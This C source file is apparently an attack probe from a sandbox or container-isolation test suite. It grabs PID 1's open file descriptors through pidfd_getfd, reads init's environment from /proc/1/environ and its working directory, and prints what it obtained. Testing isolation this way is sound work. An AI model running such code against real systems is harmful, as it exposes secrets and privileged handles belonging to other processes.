// What the init inside has in the first moments of its command: taken by whoever may trace it.
#include "attack.h"

#include <fcntl.h>
#include <linux/limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MOST = 64 };

// init: takes all that it can of PID 1, as fast as it can, and then says what that was: "fd N PATH", "environ TEXT",
// "cwd PATH".
int init_command(int count, char **arguments) {
  (void)count, (void)arguments;
  static char environment[65536], directory[PATH_MAX], path[64], target[PATH_MAX];
  int taken[MOST];
  const int init = syscall(SYS_pidfd_open, 1, 0);
  for (int file = 3; file < MOST; file++) taken[file] = syscall(SYS_pidfd_getfd, init, file, 0);
  const int file = open("/proc/1/environ", O_RDONLY);
  const long size = file < 0 ? -1 : read(file, environment, sizeof environment - 1);
  const long length = readlink("/proc/1/cwd", directory, sizeof directory - 1);
  for (int file = 3; file < MOST; file++) {
    if (taken[file] < 0) continue;
    snprintf(path, sizeof path, "/proc/self/fd/%d", taken[file]);
    const long end = readlink(path, target, sizeof target - 1);
    target[end < 0 ? 0 : end] = '\0';
    say("fd %d %s", file, target);
  }
  for (long at = 0; at < size; at += strlen(environment + at) + 1)
    if (environment[at] != '\0') say("environ %s", environment + at);
  if (length >= 0) say("cwd %s", directory);
  say("tried");
  return 0;
}
